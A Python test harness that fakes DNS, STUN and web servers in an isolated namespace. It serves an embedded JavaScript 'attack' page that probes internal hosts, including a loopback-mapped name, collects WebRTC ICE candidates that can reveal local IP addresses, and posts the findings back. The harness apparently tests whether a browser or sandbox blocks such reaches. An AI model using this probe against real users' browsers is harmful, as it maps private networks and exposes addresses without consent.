"""The outside of a test: names, pages and a log of what arrives. Standard library only.

Run as ``python outside.py LOG`` in a network namespace of its own. Names that end with ``.test``
are all at `ADDRESS`, except ``inside.test``, which is at the loopback address.
"""

import json
import socket
import struct
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ADDRESS = "203.0.113.20"
RESOLVER = "10.77.0.53"
STUN_COOKIE = bytes.fromhex("2112a442")
DNS_PORT, PAGES_PORT, STUN_PORT, QUIC_PORT = 53, 80, 3478, 443

ATTACK_PAGE = """<!DOCTYPE html><title>Attack</title><body>Welcome<script>
async function reached(url) {
  try { await fetch(url, { mode: "no-cors", cache: "no-store" }); return true; }
  catch { return false; }
}
function candidates() {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:%(address)s:3478" }] });
  const found = [];
  peer.createDataChannel("x");
  return new Promise((resolve) => {
    peer.onicecandidate = ({ candidate }) =>
      candidate ? found.push(candidate.candidate) : resolve(found);
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
}
(async () => {
  const targets = new URLSearchParams(location.search).getAll("target");
  const results = {};
  for (const target of targets) results[target] = await reached(target);
  const body = JSON.stringify({ results, candidates: await candidates() });
  await fetch("/report", { method: "POST", body });
})();
</script>"""


class Log:
    """Lines of JSON in a file; each is complete when it is there."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self._lock = threading.Lock()

    def add(self, kind: str, **fields: object) -> None:
        with self._lock, self._path.open("a") as file:
            file.write(json.dumps({"kind": kind, **fields}) + "\n")


class Pages(BaseHTTPRequestHandler):
    """Any address is answered; ``/attack`` with a page that tries to reach others."""

    log: Log

    def do_GET(self) -> None:
        self.log.add("get", host=self.headers["Host"], path=self.path)
        attack = self.path.startswith("/attack")
        page = ATTACK_PAGE % {"address": ADDRESS} if attack else "Welcome"
        self._answer(page.encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.log.add("report", body=json.loads(body))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Print nothing."""


def names(log: Log, bound: socket.socket) -> None:
    """Answer every question about an IPv4 address; others have no answer."""
    while True:
        query, sender = bound.recvfrom(4096)
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += 1 + query[at]
        name, (kind,) = ".".join(labels), struct.unpack_from(">H", query, at + 1)
        log.add("name", name=name)
        question = query[12 : at + 5]
        address = "127.0.0.1" if name == "inside.test" else ADDRESS
        answer = b""
        if kind == 1 and name.endswith(".test"):
            answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 1, 4) + socket.inet_aton(address)
        head = struct.pack(">HHHHHH", 0x8180, 1, bool(answer), 0, 0, 0)[:10]
        bound.sendto(query[:2] + head + question + answer, sender)


def datagrams(log: Log, bound: socket.socket) -> None:
    """Record every datagram, and answer those to a STUN server."""
    port = bound.getsockname()[1]
    while True:
        data, sender = bound.recvfrom(4096)
        log.add("datagram", port=port, length=len(data))
        # Without an answer a browser asks again for half a minute.
        if port == STUN_PORT and data[4:8] == STUN_COOKIE:
            bound.sendto(binding(data[8:20], sender), sender)


def binding(transaction: bytes, sender: tuple[str, int]) -> bytes:
    """Return the success of a STUN binding request, with its XOR-MAPPED-ADDRESS (RFC 8489)."""
    port = sender[1] ^ int.from_bytes(STUN_COOKIE[:2], "big")
    address = bytes(a ^ b for a, b in zip(socket.inet_aton(sender[0]), STUN_COOKIE, strict=True))
    mapped = struct.pack(">HHBBH", 0x0020, 8, 0, 1, port) + address
    return struct.pack(">HH", 0x0101, len(mapped)) + STUN_COOKIE + transaction + mapped


def main() -> None:
    report("ready")
    # By then the namespace has its addresses.
    sys.stdin.readline()
    log = Pages.log = Log(Path(sys.argv[1]))
    for port, serve in ((DNS_PORT, names), (STUN_PORT, datagrams), (QUIC_PORT, datagrams)):
        bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # Answers must come from the address that was asked.
        bound.bind((RESOLVER if port == DNS_PORT else ADDRESS, port))
        threading.Thread(target=serve, args=(log, bound), daemon=True).start()
    pages = ThreadingHTTPServer(("0.0.0.0", PAGES_PORT), Pages)
    threading.Thread(target=pages.serve_forever, daemon=True).start()
    report("listening")
    sys.stdin.read()


def report(word: str) -> None:
    sys.stdout.write(f"{word}\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
